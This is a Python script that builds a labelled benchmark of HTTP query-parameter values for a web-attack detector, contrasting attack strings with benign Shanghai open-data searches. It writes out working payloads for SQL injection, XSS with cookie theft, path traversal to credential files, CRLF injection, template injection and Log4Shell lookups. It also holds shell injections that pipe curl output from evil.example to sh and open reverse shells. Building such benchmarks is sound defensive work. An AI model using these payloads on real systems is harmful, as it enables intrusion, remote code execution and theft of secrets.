"""Write bench/labelled/params.csv: labelled query-parameter values, attacks and normal ones.

    .venv/bin/python bench/labelled/make_params.py

Attack values are built from the public descriptions of each attack class cited in
bench/labelled/README.md (forms, not copied payload lists): every form is combined with
the variations those descriptions name (quoting, comments, case, whitespace substitutes,
URL and HTML encodings, depth of traversal, shell separators...). Normal values are what an
open-data API of a Chinese city receives: place names, dates, ids, pagination, codes and
free-text searches, among them apostrophes, ampersands, angle brackets and SQL or script
words that are not attacks. The same seed writes the same file.
"""

from __future__ import annotations

import csv
import itertools
import random
import urllib.parse
from pathlib import Path

HERE = Path(__file__).resolve().parent
SEED = 14


def _enc(value: str) -> str:
    return urllib.parse.quote(value, safe="")


def _case(value: str, rng: random.Random) -> str:
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in value)


# ---------------------------------------------------------------- attacks


def sqli(rng: random.Random) -> list[str]:
    """Tautologies, UNION queries, stacked queries, blind (boolean and time) and error-based forms."""
    out = []
    prefixes = ["1", "admin", "x", "", "10", "浦东新区", "2024-01-01"]
    quotes = ["'", '"', "", "')", '")', "'))"]
    comments = ["--", "-- -", "#", "/*", ";--", ""]
    for p, q, op, c in itertools.product(prefixes, quotes, ["OR", "AND", "||", "or"], comments):
        a = rng.choice(["1", "a", "x", "2"])
        out.append(f"{p}{q} {op} {q}{a}{q}={q}{a}{' ' + c if c else ''}".replace("  ", " "))
    for p, q, n in itertools.product(["1", "-1", "x", "0"], ["'", "", '"'], range(1, 7)):
        cols = ",".join(
            rng.choice(["NULL", "1", "username", "password", "@@version", "user()", "table_name"])
            for _ in range(n)
        )
        source = rng.choice(
            ["", " FROM users", " FROM information_schema.tables", " FROM dual", " FROM pg_catalog.pg_tables"]
        )
        union = rng.choice(
            [
                "UNION SELECT",
                "UNION ALL SELECT",
                "union select",
                "UnIoN SeLeCt",
                "UNION/**/SELECT",
                "/*!50000UNION*/ SELECT",
            ]
        )
        out.append(f"{p}{q} {union} {cols}{source}{rng.choice(['--', '#', '-- -', ''])}")
    stacked = [
        "DROP TABLE users",
        "DELETE FROM datasets",
        "INSERT INTO users VALUES('x','y')",
        "UPDATE users SET role='admin'",
        "EXEC xp_cmdshell('dir')",
        "SHUTDOWN",
        "SELECT pg_sleep(5)",
        "WAITFOR DELAY '0:0:5'",
        "CREATE USER x IDENTIFIED BY 'y'",
        "TRUNCATE TABLE access_log",
    ]
    for p, q, s in itertools.product(["1", "x", "5"], ["'", "", '"'], stacked):
        out.append(f"{p}{q}; {s}{rng.choice(['--', ';--', ' #', ''])}")
    blind = [
        "AND SLEEP(5)",
        "AND 1=1",
        "AND 1=2",
        "AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
        "AND BENCHMARK(5000000,MD5(1))",
        "AND ASCII(SUBSTRING((SELECT database()),1,1))>64",
        "AND EXTRACTVALUE(1,CONCAT(0x7e,version()))",
        "AND UPDATEXML(1,CONCAT(0x7e,user()),1)",
        "AND (SELECT COUNT(*) FROM users)>0",
        "OR pg_sleep(5)--",
        "ORDER BY 10",
        "GROUP BY 1,2,3 HAVING 1=1",
        "AND 1=CONVERT(int,@@version)",
        "AND 'a'='a",
        "RLIKE SLEEP(5)",
        "AND LENGTH(database())=8",
        "AND IF(1=1,SLEEP(5),0)",
        "OR 1 IN (SELECT @@version)",
        "PROCEDURE ANALYSE()",
        "AND 1=(SELECT 1 FROM dual WHERE 1=1)",
    ]
    for p, q, b in itertools.product(["1", "42", "x"], ["'", "", '"'], blind):
        out.append(f"{p}{q} {b}{rng.choice(['--', '#', '', '-- -'])}")
    for value in list(out):
        if rng.random() < 0.12:
            out.append(_enc(value))
        if rng.random() < 0.08:
            out.append(value.replace(" ", "/**/"))
    rng.shuffle(out)
    return out[:900]


def xss(rng: random.Random) -> list[str]:
    """Script tags, event handlers on other tags, javascript: URLs, attribute break-outs, encodings."""
    calls = [
        "alert(1)",
        "alert(document.cookie)",
        "prompt(1)",
        "confirm`1`",
        "alert(String.fromCharCode(88))",
        "fetch('//x.example/'+document.cookie)",
        "eval(atob('YWxlcnQoMSk='))",
    ]
    tags = []
    for call in calls:
        tags += [
            f"<script>{call}</script>",
            f"<ScRiPt>{call}</sCrIpT>",
            "<script src=//x.example/a.js></script>",
            f"<img src=x onerror={call}>",
            f'<img src="x" onerror="{call}">',
            f"<svg onload={call}>",
            f"<svg/onload={call}>",
            f"<body onload={call}>",
            f"<iframe src=javascript:{call}>",
            f"<details open ontoggle={call}>",
            f'<a href="javascript:{call}">x</a>',
            f"<input autofocus onfocus={call}>",
            f"<video><source onerror={call}>",
            f"<marquee onstart={call}>",
            f'<div onmouseover="{call}">hover</div>',
            f"javascript:{call}",
            f'<math><mi xlink:href="javascript:{call}">',
            f'<object data="javascript:{call}">',
        ]
    out = []
    for tag in tags:
        for breakout in ["", '">', "'>", "</title>", '"/>', "--!>"]:
            out.append(breakout + tag)
    for value in list(out):
        r = rng.random()
        if r < 0.15:
            out.append(_enc(value))
        elif r < 0.22:
            out.append(
                value.replace("<", "&lt;").replace(">", "&gt;")
                if rng.random() < 0.3
                else value.replace("<", "%3C").replace(">", "%3E")
            )
    rng.shuffle(out)
    return out[:560]


def traversal(rng: random.Random) -> list[str]:
    """Dot-dot sequences of any depth to well-known files, with separators and encodings varied."""
    targets = [
        "etc/passwd",
        "etc/shadow",
        "etc/hosts",
        "proc/self/environ",
        "windows/win.ini",
        "boot.ini",
        "WEB-INF/web.xml",
        "var/log/apache2/access.log",
        "etc/issue",
        "root/.ssh/id_rsa",
        "inetpub/wwwroot/web.config",
        ".env",
    ]
    ups = [
        "../",
        "..\\",
        "%2e%2e%2f",
        "..%2f",
        "%2e%2e/",
        "....//",
        "..%252f",
        "%252e%252e%252f",
        "..%c0%af",
        "..;/",
        "%2e%2e%5c",
    ]
    out = []
    for target, up, depth in itertools.product(targets, ups, [2, 3, 4, 6, 8]):
        path = up * depth + (target.replace("/", "\\") if "\\" in up and "%" not in up else target)
        prefix = rng.choice(["", "", "/", "files/", "images/", "/var/www/"])
        suffix = rng.choice(["", "", "", "%00", "%00.jpg", "\x00.png"])
        out.append(prefix + path + suffix)
    rng.shuffle(out)
    return out[:420] + [
        "/etc/passwd",
        "file:///etc/passwd",
        "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "file:///c:/windows/win.ini",
        "/proc/self/cmdline",
    ]


def crlf(rng: random.Random) -> list[str]:
    """Header injection and response splitting: CR/LF, raw or encoded, followed by a header or a body."""
    breaks = [
        "%0d%0a",
        "%0D%0A",
        "\r\n",
        "%0a",
        "\n",
        "%0d%0a%0d%0a",
        "%E5%98%8A%E5%98%8D",
        "%250d%250a",
        "\\r\\n",
        "%23%0d%0a",
    ]
    headers = [
        "Set-Cookie: session=attacker",
        "Location: http://evil.example/",
        "X-Injected: 1",
        "Content-Length: 0",
        "Content-Type: text/html",
        "Refresh: 0; url=http://evil.example",
        "Set-Cookie:admin=true",
        "Access-Control-Allow-Origin: *",
    ]
    bodies = ["", "%0d%0a<script>alert(1)</script>", "\r\n\r\n<html>owned</html>"]
    out = []
    for prefix, br, header, body in itertools.product(["", "en", "1", "/"], breaks, headers, bodies):
        out.append(f"{prefix}{br}{header}{body}")
    rng.shuffle(out)
    return out[:260]


def command(rng: random.Random) -> list[str]:
    """Shell separators, pipes, substitutions and backticks followed by a command (Unix and Windows)."""
    commands = [
        "id",
        "whoami",
        "uname -a",
        "cat /etc/passwd",
        "ls -la",
        "ping -c 3 127.0.0.1",
        "curl http://evil.example/s.sh | sh",
        "wget http://evil.example/x -O /tmp/x",
        "nc -e /bin/sh 10.0.0.1 4444",
        "sleep 10",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "rm -rf /tmp/x",
        "echo vulnerable",
        "nslookup evil.example",
        "cat /etc/shadow",
        "ifconfig",
        "net user",
        "dir c:\\",
        "type c:\\windows\\win.ini",
        "powershell -enc SQBFAFgA",
        "cmd.exe /c whoami",
        "python -c 'import os;os.system(\"id\")'",
        "perl -e 'print 1'",
        "/bin/sh -c id",
        "busybox telnetd",
    ]
    forms = [
        "; {c}",
        "| {c}",
        "|| {c}",
        "& {c}",
        "&& {c}",
        "`{c}`",
        "$({c})",
        "\n{c}",
        "%0a{c}",
        ";{c};",
        "| {c} #",
        "$( {c} )",
        "%3B{c}",
    ]
    out = []
    for prefix, form, cmd in itertools.product(["", "1", "127.0.0.1", "test", "a.csv"], forms, commands):
        out.append(prefix + form.format(c=cmd))
    rng.shuffle(out)
    return out[:470]


def ssti(rng: random.Random) -> list[str]:
    """Template expressions of Jinja2, Twig, Freemarker, Velocity, ERB, Thymeleaf/Spring EL and Razor."""
    forms = [
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "#{7*7}",
        "*{7*7}",
        "@(7*7)",
        "{{7*'7'}}",
        "${{7*7}}",
        "{{config}}",
        "{{config.items()}}",
        "{{self.__init__.__globals__}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{request.application.__globals__.__builtins__}}",
        "{{cycler.__init__.__globals__.os.popen('id').read()}}",
        "{% import os %}{{os.system('id')}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
        "#set($x=7*7)$x",
        '${"freemarker.template.utility.Execute"?new()("id")}',
        "{{_self.env.display('id')}}",
        "{{dump(app)}}",
        "<%= system('id') %>",
        "{php}echo `id`;{/php}",
        "{{constructor.constructor('return process')()}}",
        "${__import__('os').popen('id').read()}",
        "{{lipsum.__globals__.os.popen('id').read()}}",
        "{{range.constructor(\"return global.process.mainModule"
        ".require('child_process').execSync('id')\")()}}",
        "@{7*7}",
        "[[${7*7}]]",
        "{{=7*7}}",
        "<%= File.open('/etc/passwd').read %>",
    ]
    out = []
    for form, prefix, suffix in itertools.product(forms, ["", "name=", "x", "浦东"], ["", " ", "'"]):
        out.append(prefix + form + suffix)
    rng.shuffle(out)
    return out[:260]


def jndi(rng: random.Random) -> list[str]:
    """Log4Shell-style lookups, with the nested-lookup obfuscations the advisories describe."""
    out = []
    for proto, host in itertools.product(
        ["ldap", "ldaps", "rmi", "dns", "iiop"], ["evil.example/a", "10.0.0.1:1389/x", "x.example/Exploit"]
    ):
        out += [
            f"${{jndi:{proto}://{host}}}",
            f"${{${{lower:j}}ndi:{proto}://{host}}}",
            f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:{proto}://{host}}}",
            f"${{jndi:${{lower:{proto}}}://{host}}}",
        ]
    return out


# ---------------------------------------------------------------- normal values

DISTRICTS = [
    "黄浦区",
    "徐汇区",
    "长宁区",
    "静安区",
    "普陀区",
    "虹口区",
    "杨浦区",
    "闵行区",
    "宝山区",
    "嘉定区",
    "浦东新区",
    "金山区",
    "松江区",
    "青浦区",
    "奉贤区",
    "崇明区",
]
STREETS = [
    "南京东路街道",
    "外滩街道",
    "田林街道",
    "虹桥街道",
    "江宁路街道",
    "曹家渡街道",
    "长风新村街道",
    "欧阳路街道",
    "五角场街道",
    "莘庄镇",
    "吴淞街道",
    "安亭镇",
    "陆家嘴街道",
    "张江镇",
    "朱泾镇",
    "泗泾镇",
    "朱家角镇",
    "南桥镇",
    "城桥镇",
    "花木街道",
    "七宝镇",
    "新华路街道",
    "淮海中路街道",
]
PLACES = [
    "人民广场",
    "徐家汇",
    "陆家嘴",
    "五角场",
    "虹桥枢纽",
    "迪士尼",
    "世博园",
    "新天地",
    "豫园",
    "中山公园",
    "静安寺",
    "七宝古镇",
    "朱家角",
    "外滩",
    "上海南站",
    "张江高科",
    "临港新片区",
]
TOPICS = [
    "公交线路",
    "停车场",
    "医院名录",
    "学校名单",
    "空气质量",
    "河道水质",
    "企业登记",
    "房屋租赁",
    "垃圾分类",
    "充电桩",
    "公共厕所",
    "体育场馆",
    "养老机构",
    "菜市场",
    "道路施工",
    "地铁站点",
    "共享单车",
    "食品安全抽检",
    "药店",
    "图书馆",
    "公园绿地",
    "人口统计",
    "气象预警",
    "旅游景点",
]
ENGLISH_SEARCHES = [
    "O'Brien",
    "Xi'an",
    "children's hospital",
    "St. John's University",
    "McDonald's",
    "Children's Palace",
    "People's Square",
    "L'Oréal",
    "Land's End",
    "don't know",
    "women's federation",
    "Tom & Jerry",
    "R&D",
    "AT&T",
    "price < 500",
    "temperature > 30",
    "<100",
    ">=18 years",
    "a<b",
    "1 < x < 10",
    "50% off",
    "C++ training",
    "C# course",
    "Select Committee report",
    "Union Street",
    "drop-off points",
    "update frequency",
    "order by district",
    "delete request form",
    "insert coin",
    "script writing class",
    "JavaScript course",
    "onload time",
    "alert level",
    "table tennis",
    "SELECT school list",
    "union membership",
    "sleep clinic",
    "exec summary",
    "where to buy",
    "from 2020 to 2023",
    "waiting time 5 min",
    "#1 middle school",
    "hello world",
    "N/A",
    "1/2 day",
    "high-school",
    "e-mail: info@example.com",
    "Q&A",
    "Mr. Smith's office",
    '"public toilet"',
    "'quoted'",
    '"Pudong" airport',
    "Jack's café",
    "Mary-Kate",
    "Ke'er Road",
    "and/or",
    "yes|no",
    "A+B",
    "x=y",
    "temp: 25°C",
    "(021) 6321-0000",
    "3 > 2",
    "<br> tag tutorial",
    "rock & roll",
    "Li's noodles",
    "Zhang's clinic",
    "bus route 71",
    "line 2 east",
    "2+2=4 math",
    "admin office hours",
    "root canal dentist",
    "passwd reset help",
    "cat adoption",
    "ping pong club",
    "echo valley park",
    "id card office",
    "whoami quiz",
    "shell station",
    "curl hair salon",
]
CHINESE_SEARCHES = [
    "上海市第一人民医院",
    "复旦大学附属中山医院",
    "“一网通办”",
    "《上海市公共数据开放实施细则》",
    "小学（公办）",
    "地铁2号线",
    "徐汇区-田林街道",
    "浦东新区/张江",
    "医保定点药店",
    "口腔医院",
    "早餐工程",
    "垃圾分类投放点",
    "新能源汽车充电桩",
    "老年助餐点",
    "15分钟生活圈",
    "社区卫生服务中心",
    "长三角一体化",
    "“随申码”",
    "PM2.5 日均值",
    "COVID-19 疫苗接种点",
    "5G 基站",
    "A级景区",
    "税务局第3分局",
    "人口<100万的镇",
    "面积>50公顷",
    "张江&金桥",
    "O2O 平台",
    "B&B 民宿",
    "K-12 教育",
    "上海’s 外滩",
    "沪A·12345",
    "《数据安全法》第21条",
    "第三十条",
    "1号线/2号线换乘",
]


def normal(rng: random.Random) -> list[str]:
    out: list[str] = []
    out += DISTRICTS + STREETS + PLACES + TOPICS + ENGLISH_SEARCHES + CHINESE_SEARCHES
    out += [f"{d}{s}" for d, s in itertools.product(DISTRICTS, ["", " ", "-"]) for _ in [0]]
    out += [f"{d} {t}" for d, t in itertools.product(DISTRICTS, TOPICS)]
    out += [f"{p}附近的{t}" for p, t in itertools.product(PLACES, TOPICS[:10])]
    for _ in range(500):
        year, month, day = rng.randint(2015, 2026), rng.randint(1, 12), rng.randint(1, 28)
        out.append(
            rng.choice(
                [
                    f"{year}-{month:02d}-{day:02d}",
                    f"{year}/{month}/{day}",
                    f"{year}{month:02d}{day:02d}",
                    f"{year}年{month}月{day}日",
                    f"{year}-{month:02d}",
                    f"{year}-{month:02d}-{day:02d}T08:00:00+08:00",
                    f"{year}-{month:02d}-{day:02d}..{year}-{month:02d}-{min(day + 7, 28):02d}",
                ]
            )
        )
    for _ in range(500):
        out.append(
            rng.choice(
                [
                    str(rng.randint(1, 999999)),
                    f"sh-{rng.randint(1, 9999):05d}",
                    f"{rng.getrandbits(128):032x}",
                    f"{rng.getrandbits(32):08x}-{rng.getrandbits(16):04x}-4{rng.getrandbits(12):03x}-"
                    f"a{rng.getrandbits(12):03x}-{rng.getrandbits(48):012x}",
                    f"91310{rng.randint(1000000000000, 9999999999999)}",
                    f"D{rng.randint(100, 999)}-{rng.randint(1, 99)}",
                    f"{rng.choice(['sh', 'shgj', 'pd'])}_{rng.choice(['bus', 'park', 'school'])}"
                    f"_{rng.randint(1, 300)}",
                    f"310{rng.randint(100, 120)}",
                    f"{rng.uniform(120.8, 122.0):.6f},{rng.uniform(30.6, 31.9):.6f}",
                ]
            )
        )
    for _ in range(200):
        out.append(
            rng.choice(
                [
                    str(rng.randint(1, 500)),
                    str(rng.choice([10, 20, 50, 100, 500])),
                    rng.choice(
                        [
                            "asc",
                            "desc",
                            "name",
                            "-updated_at",
                            "updated_at,desc",
                            "json",
                            "csv",
                            "xlsx",
                            "zh-CN",
                            "en",
                            "true",
                            "false",
                            "name,address,phone",
                            "*",
                        ]
                    ),
                ]
            )
        )
    for _ in range(800):
        words = rng.sample(
            TOPICS
            + PLACES
            + DISTRICTS
            + ["开放时间", "地址", "电话", "2024年", "最新", "统计", "名单", "查询"],
            2,
        )
        out.append(
            rng.choice(
                [
                    " ".join(words),
                    "".join(words),
                    f"{words[0]} {rng.choice(ENGLISH_SEARCHES)}",
                    f"{words[0]}（{words[1]}）",
                    f"{words[0]}“{words[1]}”",
                    f"{words[0]} & {words[1]}",
                    f"{words[0]}>{rng.randint(1, 100)}",
                    f"{words[0]}'s {words[1]}",
                ]
            )
        )
    return out


def main() -> None:
    rng = random.Random(SEED)
    rows = []
    for name, make in (
        ("sqli", sqli),
        ("xss", xss),
        ("path_traversal", traversal),
        ("crlf", crlf),
        ("command_injection", command),
        ("ssti", ssti),
        ("jndi", jndi),
    ):
        rows += [("attack", name, v) for v in dict.fromkeys(make(rng))]
    attacks = len(rows)
    rows += [("normal", "normal", v) for v in dict.fromkeys(normal(rng))]
    path = HERE / "params.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["label", "class", "value"])
        writer.writerows(rows)
    print(f"wrote {path}: {attacks} attack and {len(rows) - attacks} normal values")


if __name__ == "__main__":
    main()
